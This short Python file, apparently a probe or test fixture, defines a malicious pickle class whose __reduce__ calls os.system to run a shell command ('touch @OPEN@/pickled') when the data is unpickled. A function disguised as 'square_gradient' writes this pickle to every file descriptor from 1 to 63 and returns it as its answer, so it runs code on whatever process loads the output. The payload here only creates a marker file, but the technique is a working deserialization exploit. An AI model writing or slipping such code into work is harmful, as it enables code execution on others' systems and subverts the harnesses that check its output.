"""Pickles that run a program where they are loaded, on every descriptor and as an answer."""
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch @OPEN@/pickled",)
def square_gradient(A):
    for protocol in (0, 2, 5):
        for descriptor in range(1, 64):
            try: os.write(descriptor, pickle.dumps(Bomb(), protocol))
            except OSError: pass
    return Bomb()
